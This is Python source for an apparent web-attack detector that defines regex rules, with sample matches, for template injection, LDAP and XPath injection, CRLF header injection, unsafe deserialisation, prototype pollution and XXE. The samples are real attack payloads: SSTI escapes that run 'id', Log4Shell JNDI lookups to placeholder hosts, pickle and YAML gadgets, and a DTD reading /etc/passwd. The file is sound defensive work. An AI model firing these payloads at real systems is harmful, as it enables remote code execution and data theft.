"""Web-attack signals aimed at the server's other interpreters.

Template engines and expression languages (SSTI), LDAP filters, XPath queries, XML parsers'
document types, HTTP headers (CRLF injection) and object deserialisers each read a request field
as code of their own language. A value written in one of those languages, with the moves that
break out of its intended place, is a probe or an exploit; the same language used as intended (a
template that prints a name, a filter that looks a user up) is not.
"""

from __future__ import annotations

from bastion.core.rules import Rule
from bastion.core.types import Severity

SSTI = "webattack.ssti"
LDAP = "webattack.ldap"
XPATH = "webattack.xpath"
HEADER_INJECTION = "webattack.header_injection"
OBJECT_INJECTION = "webattack.object_injection"
XXE = "webattack.xxe"

_S = Severity.HIGH  # the detector sets each finding's severity from the score

# Openers of template and expression syntax: Jinja/Twig/Handlebars `{{`, `{%`; EL, Freemarker,
# Mako, JS template literals `${`; JSF/Ruby/Spring `#{`, `*{`; Thymeleaf `[[`, `[(`; Razor `@(`;
# ERB/JSP/ASP `<%`.
_OPEN = r"(?:\$?\{\{|\{%|\$\{|#\{|\*\{|\[\[|\[\(|@\(|<%[=#-]?|\{=)"
_CLOSE = r"(?:\}\}|%\}|\}|\]\]|\)\]|\)|%>)"

SSTI_ARITHMETIC_PROBE = Rule(
    id="ssti.arithmetic_probe",
    code=SSTI,
    # `{{7*7}}` and its kin: a tester's first question to every template engine is whether the
    # page comes back with 49. Real templates print variables, not sums of two literals.
    pattern=_OPEN + r"\s*-?\d+\s*[*+/-]\s*['\"]?-?\d+['\"]?\s*" + _CLOSE,
    severity=_S,
    score=0.75,
    message="arithmetic probe in template or expression syntax",
    examples=("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "@(6+6)", "[[${7*7}]]"),
    counterexamples=(
        "{{ order.total }}",
        "Hello {{name}}, your order {{ order_id }} has shipped",
        "${HOME}/bin",
        "open 9-5 (Mon-Fri)",
        "{% if items|length > 1 %}items{% endif %}",
        "price: ${12.50}",
    ),
)

_DUNDER = r"__(?:class|mro|base|bases|subclasses|globals|builtins|init|import|getattribute)__"

SSTI_OBJECT_WALK = Rule(
    id="ssti.object_walk",
    code=SSTI,
    # Python sandbox escapes climb from any object to `object` and back down to a class that
    # can run commands: `''.__class__.__mro__[1].__subclasses__()`, `lipsum.__globals__`.
    pattern=(
        r"__(?:class|base|bases|mro)__\s*(?:\[\s*-?\d+\s*\]\s*)?\.\s*__(?:mro|base|bases|subclasses)__"
        r"|__init__\s*\.\s*__globals__|__subclasses__\s*\(\s*\)\s*\["
        r"|\b(?:lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|request\.application"
        r"|config)\s*\.\s*(?:__init__\s*\.\s*)?__globals__"
        r"|\b_TemplateReference__context\b|__builtins__\s*\[\s*['\"]__import__"
        r"|"
        + _OPEN
        + r"[^{}]{0,200}?"
        + _DUNDER
        # The same walk without underscores (Jinjava, Pebble) and Jinja's `attr` filter, which
        # reaches an attribute whose name is built from pieces so no filter sees it written.
        + r"|\.class\s*\.\s*(?:mro|base|bases|superclass)\b|\.subclasses\s*\(\s*\)"
        r"|\|\s*attr\s*\(\s*(?:['\"]|\[|request\b)"
        r"|" + _OPEN + r"\s*for\s+\w+(?:\s*,\s*\w+)?\s+in\s+(?:config|request|self|settings)\b"
    ),
    severity=_S,
    score=0.85,
    message="Python object graph walk toward code execution (template sandbox escape)",
    examples=(
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "().__class__.__bases__[0].__subclasses__()[59]",
        "{{request.__class__}}",
        '{{request|attr(["__","class","__"]|join)}}',
        "{{ [].class.base.subclasses() }}",
        "{% for k, v in config.items() %}{{ k }}{% endfor %}",
    ),
    counterexamples=(
        "def __init__(self, name):\n    super().__init__()\n    self.name = name",
        "print(type(self).__name__)",
        "logger = logging.getLogger(self.__class__.__name__)",
        "{{ user.first_name }}",
        "registry = {cls.__name__: cls for cls in Base.__subclasses__()}",
        "{% for item in order.items %}{{ item.name }}{% endfor %}",
        "{{ product|attribute_list }}",
        "String name = obj.getClass().getName();",
    ),
)

SSTI_ENGINE_GADGET = Rule(
    id="ssti.engine_gadget",
    code=SSTI,
    # Known ways out of each engine into the host: Twig's filter callbacks, FreeMarker's
    # Execute class, Velocity's reflection, OGNL's member access, SpEL's type operator, Smarty's
    # PHP tags, Mako's module imports, Node's `node-serialize` function marker.
    pattern=(
        r"_self\s*\.\s*env\s*\.\s*(?:registerUndefinedFilterCallback|getFilter|setCache)"
        r"|\|\s*(?:filter|map|reduce|sort)\s*\(\s*['\"](?:system|exec|passthru|shell_exec|popen"
        r"|proc_open)['\"]"
        r"|freemarker\.template\.utility\.(?:Execute|ObjectConstructor|JythonRuntime)"
        r"|\?\s*new\s*\(\s*\)\s*(?:\(|>|$)|\?api\.(?:getClass|class)"
        r"|\.getClass\s*\(\s*\)\s*\.\s*forName\s*\("
        r"|#_memberAccess|@java\.lang\.Runtime@|#context\s*\[\s*['\"]|DEFAULT_MEMBER_ACCESS"
        r"|ognl\.OgnlContext|%\{\s*\(\s*#"
        r"|\bT\s*\(\s*java\.lang\.(?:Runtime|System|ProcessBuilder|Class|Thread)\s*\)"
        r"|\bnew\s+java\.(?:lang\.ProcessBuilder|util\.Scanner|io\.File(?:Reader|InputStream)?)\b"
        r"|\{(?:php|/php)\}|\{\s*(?:system|exec|passthru|shell_exec)\s*\(|Smarty_Internal_Write_File"
        r"|\$smarty\.(?:version|template_object)"
        r"|<%\s*(?:import\s+os|!\s*import)|\bself\.module\.cache\.util\.os\b"
        r"|_\$\$ND_FUNC\$\$_"
        # A template asked to print the engine's own objects whole: its settings, the request,
        # the template context (Jinja, Django, Twig).
        r"|" + _OPEN + r"\s*(?:config|self|_self|_context|app|request|settings(?:\.SECRET_KEY)?"
        r"|request\.environ|dump\s*\(\s*(?:app|_context)?\s*\))"
        r"(?:\s*\.\s*items\s*\(\s*\))?\s*"
        + _CLOSE
        + r"|\bapp\.request\.(?:server|headers|query\.filter)\b"
    ),
    severity=_S,
    score=0.8,
    message="template-engine or expression-language escape to the host",
    examples=(
        '{{_self.env.registerUndefinedFilterCallback("exec")}}',
        "{{['id']|filter('system')}}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{system('ls')}",
        "{{config.items()}}",
        "{{ self }}",
        "{{ request }}",
        "{{dump(app)}}",
        "{{app.request.server.all|join(',')}}",
        "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
        "<% import os %>${os.popen('id').read()}",
    ),
    counterexamples=(
        "{{ items|map(attribute='name')|join(', ') }}",
        "{{ users|sort(attribute='age') }}",
        "System.out.println(new java.util.Date());",
        "config.yaml was updated",
        "{{ self_service_url }}",
        "Set the {config} placeholder in settings",
    ),
)

SSTI_NESTED_LOOKUP = Rule(
    id="ssti.nested_lookup",
    code=SSTI,
    # Log4j-style lookups nested to spell a protocol past a filter: `${${lower:j}ndi:...}`,
    # `${${::-j}${::-n}di:...}`, `${${env:X:-j}ndi...}`.
    pattern=(
        r"(?i)\$\{[^{}]{0,40}\$\{\s*(?:lower|upper|::-|env:|sys:|date:|main:|bundle:|k8s:"
        r"|docker:|java:|web:|jndi:|ctx:|spring:)"
        r"|(?i)\$\{\s*(?:jndi|ldap|rmi|dns|iiop|corba|nds|nis)\s*:"
    ),
    severity=_S,
    score=0.85,
    message="nested expression lookups (Log4Shell-style)",
    examples=(
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
        "${${lower:j}ndi:ldap://x.example/a}",
        "${jndi:ldap://x.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x/}",
    ),
    counterexamples=(
        "${HOME}/.config",
        "export PATH=${PATH}:${HOME}/bin",
        "the price is ${amount}",
    ),
)

SSTI_INCLUDE = Rule(
    id="ssti.include",
    code=SSTI,
    # Edge-side includes make a cache fetch and splice another URL into the page.
    pattern=r"(?i)<esi:(?:include|vars|debug|assign|inline|choose|try)\b",
    severity=_S,
    score=0.75,
    message="edge-side include markup",
    examples=('<esi:include src="http://x.example/"/>', "<esi:vars>$(HTTP_COOKIE)</esi:vars>"),
    counterexamples=("what is ESI caching?", "<esi></esi>", "esi:include is a tag name"),
)

# Where a pasted value starts: the whole field, a query parameter's value, a quoted string or a
# word. A filter written whole starts with "(" instead, and its own presence tests (`(mail=*)`)
# follow an "=" inside it.
_VALUE_START = r"(?:^|[?&][\w.-]+=|[\"'\s])"

LDAP_FILTER_BREAK = Rule(
    id="ldap.filter_break",
    code=LDAP,
    # A value that closes the filter it is pasted into and opens another: `*)(uid=*))(|(uid=*`,
    # `admin)(&)`, `*)(|(objectclass=*))`. Ordinary text rarely closes a parenthesis and opens a
    # filter with an attribute comparison or a bare operator right after it.
    pattern=(
        r"(?i)" + _VALUE_START + r"[\w@.-]*\*\s*\)+\s*\(+\s*[|&!]?\s*\(*\s*[a-z][\w-]*\s*[~<>]?="
        r"|" + _VALUE_START + r"[\w@.*-]+\)+\s*\(\s*[|&]\s*(?:[()]|$)"
        r"|" + _VALUE_START + r"[\w@.-]*\*\s*\(\s*(?:[|&]\s*\(|\)\s*[|&])"
        r"|" + _VALUE_START + r"[\w@.-]+\)+\s*\(\s*[a-z][\w-]*\s*[~<>]?=\s*\*"
    ),
    severity=_S,
    score=0.75,
    message="LDAP filter closed and reopened",
    examples=(
        "*)(uid=*))(|(uid=*",
        "*)(|(objectclass=*))",
        "admin*)((|userpassword=*)",
        "admin)(&)",
        "jdoe)(cn=*",
        "*)(&",
        "*(|(mail=*))",
        "*()|&'",
    ),
    counterexamples=(
        "(&(objectClass=person)(mail=*))",
        "(|(uid=jdoe)(mail=jdoe@example.com))",
        "f(x)(y) is curried",
        "call me (cell)(555) 010 999",
        "rated 5*) (best) for speed",
        "(&(mail=*)(cn=jdoe))",
        "(&(a=1)(|(b=2)(!(c=3))))",
    ),
)

LDAP_NULL_TERMINATED = Rule(
    id="ldap.null_terminated",
    code=LDAP,
    # `*))%00`: the rest of the server's filter is cut off by a NUL byte.
    pattern=r"[\w*=]\)+\s*(?:%00|\x00|\\00|\\x00)",
    severity=_S,
    score=0.7,
    message="filter closed and truncated with a NUL byte",
    examples=("*))%00", "admin)%00", "*)\x00", ")(cn=))\\x00"),
    counterexamples=("(see page 100)", "call (0)800 100", "%00 is a NUL"),
)

XPATH_NODE_PROBE = Rule(
    id="xpath.node_probe",
    code=XPATH,
    # Blind XPath extraction reads the document's own node names and lengths character by
    # character: `substring(name(/*[1]),1,1)`, `string-length(name(parent::*))`,
    # `count(/child::node())`.
    pattern=(
        r"(?i)\b(?:name|local-name|string-length|substring|count|string)\s*\(\s*"
        r"(?:name\s*\(\s*)?(?:/(?:\*|/|[a-z][\w:-]*\s*[\[/)])|\.\./|parent::|child::|ancestor::"
        r"|following-sibling::|self::)"
        r"|(?i)\bchild::node\s*\(\s*\)|(?i)'\s*or\s+(?:name|count|string-length)\s*\("
        r"|(?i)['\"]\s*\]\s*\|\s*//\*|(?i)['\"]\s*or\s+//"
        # A condition joined to the query with an XPath function, and `doc()` fetching a share.
        r"|(?i)\b(?:and|or)\s+(?:string-length|starts-with|codepoints-to-string|local-name)\s*\("
        r"|(?i)\bdoc\s*\(\s*['\"](?://|\\\\|https?:)"
    ),
    severity=_S,
    score=0.75,
    message="XPath node probe or query break",
    examples=(
        "' or count(/child::node())=1 or ''='",
        "substring(name(/*[1]),1,1)='a'",
        "string-length(name(parent::*))",
        "x' or name()='username' or 'x'='y",
        "']|//*|//*['",
        "and string-length(account)=5",
        "x and doc('//203.0.113.5/share')",
    ),
    counterexamples=(
        "count(*) from orders",
        "the name (/ˈneɪm/) is pronounced",
        "substring(text, 1, 3)",
        "xpath //div[@class='price']",
        "check the name and starts-with rule in the docs",
        "the doc (see //share/notes) is ready",
    ),
)

# Encoded line breaks, and the pairs among them that HTTP itself uses between headers (CR LF).
_ENCODED_BREAK = (
    r"(?:%0d%0a|%0d|%0a|%e5%98%8a%e5%98%8d|%e5%98%8a|%e5%98%8d|%u000d|%u000a|%250d|%250a"
    r"|%5cr%5cn|\\r\\n|%c4%8a|%c4%8d)"
)
_CRLF = r"(?:%0d%0a|%e5%98%8a%e5%98%8d|%u000d%u000a|%250d%250a|%5cr%5cn|\\r\\n)"
_SPACE = r"(?:%20|%09|\+|\s)*"

HEADER_CRLF = Rule(
    id="header.crlf",
    code=HEADER_INJECTION,
    # An encoded line break followed by a header name splits the response or adds a header
    # (CWE-113): `%0d%0aSet-Cookie:`, `%E5%98%8A%E5%98%8DLocation:` (UTF-8 that some servers
    # truncate to CR LF), or two breaks and a body of the attacker's choosing.
    pattern=(
        r"(?i)" + _ENCODED_BREAK + r"+" + _SPACE + r"(?:set-cookie|content-(?:type|length"
        r"|security-policy|disposition)|transfer-encoding|x-[a-z-]+|access-control-allow-[a-z]+"
        r"|cache-control|http/1\.[01])\s*(?::|%3a|\s\d{3})"
        # Header names that are also words ("Location: Paris") need the CR LF pair itself.
        r"|(?i)" + _CRLF + r"+" + _SPACE + r"(?:location|host|refresh|connection)\s*(?::|%3a)"
        r"|(?i)\\n" + _SPACE + r"set-cookie\s*(?::|%3a)"
        r"|(?i)(?:%0d%0a|%250d%250a){2}" + _SPACE + r"(?:<|%3c)"
    ),
    severity=_S,
    score=0.8,
    message="encoded line break followed by an HTTP header (CRLF injection)",
    examples=(
        "%0d%0aSet-Cookie:%20session=evil",
        "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y",
        "/redirect?url=%0d%0aLocation:%20http://x.example",
        "abc%0d%0a%0d%0a<script>alert(1)</script>",
        "en%0AX-Forwarded-Host:%20x.example",
    ),
    counterexamples=(
        "line one%0Aline two",
        "Location: Paris, France",
        "Set-Cookie: is the header that stores a cookie",
        "a\\nb\\nc",
        "name=Ann%0ALocation%3A+Berlin",
        '{"body": "Hi\\nLocation: Berlin\\nThanks"}',
    ),
)

OBJECT_SERIALISED = Rule(
    id="object.serialised",
    code=OBJECT_INJECTION,
    # Serialised objects that run code while they are read back: Java streams (`aced0005`,
    # base64 `rO0AB`), PHP objects (`O:8:"stdClass":...`), YAML tags that construct classes,
    # pickles that import `os.system`, and .NET gadgets named by type.
    pattern=(
        r"\brO0AB[A-Za-z0-9+/]{8,}|\b(?i:aced0005)[0-9a-fA-F]{4,}"
        r"|\b[OC]:\d+:\"[A-Za-z_\\][\w\\]*\":\d+:\{"
        r"|!!python/(?:object|name|module)(?:/apply|/new)?:"
        r"|!!(?:javax?|com|org|sun)\.[\w.$]+|!ruby/(?:object|hash|struct):"
        r"|\bc(?:os|posix|subprocess|builtins|__builtin__|nt)\n(?:system|popen|check_output|call|exec"
        r"|eval|getattr)\n"
        r"|System\.Windows\.Data\.ObjectDataProvider|System\.Diagnostics\.Process(?:StartInfo)?\b"
        r"[^\n]{0,80}(?:\$type|__type)|(?:\$type|__type)\"?\s*:\s*\"System\.(?:Windows\.Data"
        r"|Diagnostics\.Process|Management\.Automation|Configuration\.Install)"
        r"|\bTypeConfuseDelegate\b|\bTextFormattingRunProperties\b"
    ),
    severity=_S,
    score=0.8,
    message="serialised object that can run code when read (insecure deserialisation)",
    examples=(
        'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
        "aced00057372001b636f6d2e6578616d706c65",
        '!!python/object/apply:os.system ["id"]',
        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]',
        "cos\nsystem\n(S'id'\ntR.",
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
    ),
    counterexamples=(
        "rO0 is not a word",
        'a:2:{i:0;s:3:"foo";i:1;s:3:"bar";}',
        "tags: !!str 123",
        "cos(x) and sin(x)",
        '{"$type":"MyApp.Models.Dog, MyApp"}',
        "O:8 is the seat number",
    ),
)

OBJECT_PROTOTYPE_POLLUTION = Rule(
    id="object.prototype_pollution",
    code=OBJECT_INJECTION,
    # A key that reaches every object's prototype when merged into one: `__proto__[isAdmin]=1`,
    # `{"__proto__": {...}}`, `constructor[prototype][x]=`. Code that mentions prototypes uses
    # dots (`Foo.prototype.bar`), not keys.
    pattern=(
        r"(?:\[|\"|'|^|[?&;,{])\s*__proto__\s*(?:\]|\"|'|\[|\.|=)"
        r"|\bconstructor\s*(?:\[\s*['\"]?prototype['\"]?\s*\]|\.prototype\s*\[|\"\s*:\s*\{\s*\"prototype\")"
    ),
    severity=_S,
    score=0.75,
    message="prototype-polluting key",
    examples=(
        "__proto__[isAdmin]=true",
        '{"__proto__": {"isAdmin": true}}',
        "?constructor[prototype][isAdmin]=1",
        "x=1&__proto__.polluted=1",
        '{"constructor": {"prototype": {"admin": true}}}',
    ),
    counterexamples=(
        "Foo.prototype.bar = function () {}",
        "Object.getPrototypeOf(obj) === Foo.prototype",
        "console.log(obj.constructor.name)",
        "what is the __proto__ property in JavaScript?",
    ),
)

XXE_EXTERNAL_DTD = Rule(
    id="xxe.external_dtd",
    code=XXE,
    # A document type fetched by URL from wherever the payload says: the parser reaches out
    # (SSRF) and the fetched DTD defines the entities that carry files back. Published document
    # types are named with PUBLIC and a catalogue identifier; a SYSTEM URL is the attack's form.
    pattern=r"(?i)<!DOCTYPE\s+[\w:.-]+\s+SYSTEM\s+[\"'](?:https?|ftp|file|jar|netdoc|gopher|php|expect|data):",
    severity=_S,
    score=0.75,
    message="XML document type loaded from a URL (external DTD)",
    examples=(
        '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://x.example/evil.dtd"><data>&e;</data>',
        "<!DOCTYPE r SYSTEM 'file:///etc/passwd'>",
    ),
    counterexamples=(
        '<!DOCTYPE note SYSTEM "Note.dtd">',
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
        "<!DOCTYPE html>",
    ),
)

XXE_ENTITY_EXPANSION = Rule(
    id="xxe.entity_expansion",
    code=XXE,
    # "Billion laughs": each entity repeats the one before, so a few lines expand to gigabytes.
    pattern=r"(?i)<!ENTITY\s+[\w.-]+\s+[\"']\s*(?:&[\w.-]+;\s*){3,}",
    severity=_S,
    score=0.75,
    message="XML entity defined as repeats of another (entity expansion)",
    examples=('<!DOCTYPE lolz [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;">]><lolz>&b;</lolz>',),
    counterexamples=('<!ENTITY copy "&#169;">', '<!ENTITY company "Acme &amp; Sons">'),
)

RULES: tuple[Rule, ...] = (
    SSTI_ARITHMETIC_PROBE,
    SSTI_OBJECT_WALK,
    SSTI_ENGINE_GADGET,
    SSTI_NESTED_LOOKUP,
    SSTI_INCLUDE,
    LDAP_FILTER_BREAK,
    LDAP_NULL_TERMINATED,
    XPATH_NODE_PROBE,
    HEADER_CRLF,
    OBJECT_SERIALISED,
    OBJECT_PROTOTYPE_POLLUTION,
    XXE_EXTERNAL_DTD,
    XXE_ENTITY_EXPANSION,
)

FAMILY_MESSAGES = {
    SSTI: "server-side template, expression or include injection",
    LDAP: "LDAP filter injection",
    XPATH: "XPath injection",
    HEADER_INJECTION: "HTTP header injection (CRLF)",
    OBJECT_INJECTION: "object injection: a serialised object or a prototype-polluting key",
    XXE: "XML external entity or entity expansion (XXE)",
}
